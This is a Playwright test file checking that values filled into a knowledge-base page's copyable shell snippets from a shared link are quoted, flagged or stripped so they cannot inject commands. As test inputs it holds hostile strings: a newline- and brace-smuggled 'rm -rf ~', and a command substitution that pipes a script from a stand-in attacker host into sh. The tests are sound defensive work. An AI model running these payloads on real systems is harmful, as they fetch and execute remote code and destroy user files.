import { expect, test, type Page } from '@playwright/test';

/**
 * Issue 9: a shared link cannot put commands into what the reader copies. Each attack from the issue:
 * what the reader sees, and the exact clipboard text.
 */
const PAGE = '/kb/FIX_SHELL_VALUES_001';
test.use({ permissions: ['clipboard-read', 'clipboard-write'] });

const clipboard = (page: Page) => page.evaluate(() => navigator.clipboard.readText());
const banner = (page: Page) => page.locator('[data-kb-link-banner]');
const panel = (page: Page) => page.getByRole('region', { name: 'Your values' });
const field = (page: Page, name: string) => panel(page).getByRole('textbox', { name: new RegExp(`^${name}\\b`) });
/** The n-th code block (0-based) and its copy button. */
const block = (page: Page, n: number) => page.locator('article figure').nth(n);
async function copyBlock(page: Page, n: number): Promise<string> {
  await page.evaluate(() => navigator.clipboard.writeText('(clipboard before)'));
  await block(page, n).getByRole('button', { name: /^Copy/ }).click();
  return clipboard(page);
}

test.beforeEach(async ({ page }) => {
  await page.goto('/');
  await page.evaluate(() => localStorage.clear());
});

test('a link with CRs: the CRs are removed with a visible note, the braces are flagged and quoted', async ({ page }) => {
  await page.goto(`${PAGE}?PLAIN=build%0D%7Brm,-rf,~%7D%0D`);
  await expect(banner(page)).toContainText('This link filled in values');
  await expect(banner(page)).toContainText('PLAIN');
  await expect(banner(page)).toContainText('build{rm,-rf,~}');
  await expect(banner(page)).toContainText('Removed 2 line breaks from PLAIN');
  await expect(banner(page)).toContainText('contains characters the shell reads specially ({ ~ })');
  await expect(page.locator('pre [data-var="PLAIN"]').first()).toHaveAttribute('data-source', 'link');
  expect(await copyBlock(page, 0)).toBe("echo 'build{rm,-rf,~}'\nrm -rf __TARGET_DIR__/cache");
  await expect(block(page, 0)).toContainText('Copied, but not filled in: TARGET_DIR.');
});

test('a link with an LF: removed, the value stays one argument', async ({ page }) => {
  await page.goto(`${PAGE}?PLAIN=a%0Arm%20-rf%20~`);
  await expect(banner(page)).toContainText('Removed 1 line break from PLAIN');
  expect(await copyBlock(page, 0)).toBe("echo 'arm -rf ~'\nrm -rf __TARGET_DIR__/cache");
});

for (const [value, expected] of [['~', "rm -rf '~'/cache"], ['*', "rm -rf '*'/cache"]]) {
  test(`TARGET_DIR=${value} from a link is flagged and copied quoted, never as a glob or home`, async ({ page }) => {
    await page.goto(`${PAGE}?TARGET_DIR=${encodeURIComponent(value)}`);
    await expect(banner(page)).toContainText(`contains characters the shell reads specially (${value})`);
    expect(await copyBlock(page, 0)).toBe(`echo __PLAIN__\n${expected}`);
  });
}

test('$(…) and backticks from a link are copied as text, bare and inside double quotes', async ({ page }) => {
  await page.goto(`${PAGE}?PLAIN=${encodeURIComponent('alpine $(curl -s evil.example/x.sh | sh)')}&BUILD_PORT=8080`);
  expect(await copyBlock(page, 0)).toBe("echo 'alpine $(curl -s evil.example/x.sh | sh)'\nrm -rf __TARGET_DIR__/cache");
  expect(await copyBlock(page, 1)).toBe('curl "http://localhost:8080/clean?label=alpine \\$(curl -s evil.example/x.sh | sh)"');
  await page.goto(`${PAGE}?PLAIN=${encodeURIComponent('`id`')}`);
  expect(await copyBlock(page, 0)).toBe("echo '`id`'\nrm -rf __TARGET_DIR__/cache");
});

test('PowerShell blocks quote for PowerShell', async ({ page }) => {
  await page.goto(`${PAGE}?PLAIN=${encodeURIComponent("it's $env:USERNAME")}`);
  expect(await copyBlock(page, 2)).toBe("Write-Output 'it''s $env:USERNAME'");
});

test('a value failing its format is not copied; the button says why', async ({ page }) => {
  await page.goto(`${PAGE}?BUILD_PORT=80a`);
  expect(await copyBlock(page, 1)).toBe('(clipboard before)');
  await expect(block(page, 1)).toContainText('Not copied: BUILD_PORT is not valid: Use digits only.');
});

test('link values apply for this visit only: editing another field does not store them; Keep does', async ({ page }) => {
  await page.goto(`${PAGE}?PLAIN=injected`);
  await field(page, 'TARGET_DIR').fill('build');
  await page.goto(PAGE);
  await expect(field(page, 'PLAIN')).toHaveValue('');
  await expect(field(page, 'TARGET_DIR')).toHaveValue('build');
  await expect(page.locator('pre [data-var="PLAIN"]').first()).toHaveText('PLAIN');

  await page.goto(`${PAGE}?PLAIN=kept`);
  await banner(page).getByRole('button', { name: 'Keep these values' }).click();
  await expect(banner(page)).toHaveCount(0);
  await page.goto(PAGE);
  await expect(field(page, 'PLAIN')).toHaveValue('kept');

  await page.goto(`${PAGE}?PLAIN=other`);
  await banner(page).getByRole('button', { name: 'Discard' }).click();
  await expect(field(page, 'PLAIN')).toHaveValue('kept');
});

test('values from a pasted log say so', async ({ page }) => {
  await page.goto(`${PAGE}?TARGET_DIR=%2Fvar%2Fbuild&src=log`);
  await expect(banner(page)).toContainText('These values come from the log you pasted');
  await expect(page.locator('pre [data-var="TARGET_DIR"]').first()).toHaveAttribute('data-source', 'log');
});

test('on a phone the refusal is shown at the button, on screen', async ({ page }) => {
  await page.setViewportSize({ width: 390, height: 800 });
  await page.goto(`${PAGE}?BUILD_PORT=80a`);
  await block(page, 1).getByRole('button', { name: /^Copy/ }).click();
  const message = block(page, 1).getByText('Not copied: BUILD_PORT is not valid');
  await expect(message).toBeVisible();
  await expect(message).toBeInViewport();
  const [box, button] = await Promise.all([message.boundingBox(), block(page, 1).getByRole('button', { name: /^Copy/ }).boundingBox()]);
  expect(box!.x + box!.width).toBeLessThanOrEqual(390);
  expect(Math.abs(box!.y - button!.y)).toBeLessThan(120);
});

test('a 10,000-character value in a field with a quadratic pattern keeps every keystroke under 50 ms', async ({ page }) => {
  await page.goto(PAGE);
  const input = field(page, 'BUILD_ID');
  await input.fill('1'.repeat(10_000));
  await page.evaluate(() => {
    (window as unknown as { longTasks: number[] }).longTasks = [];
    new PerformanceObserver((list) => (window as unknown as { longTasks: number[] }).longTasks.push(...list.getEntries().map((e) => e.duration))).observe({ type: 'longtask' });
  });
  await input.press('End');
  await input.pressSequentially('11111', { delay: 20 });
  await page.waitForTimeout(300);
  expect(await page.evaluate(() => (window as unknown as { longTasks: number[] }).longTasks)).toEqual([]);
  await expect(input).toHaveAccessibleDescription(/Too long to check/);
});
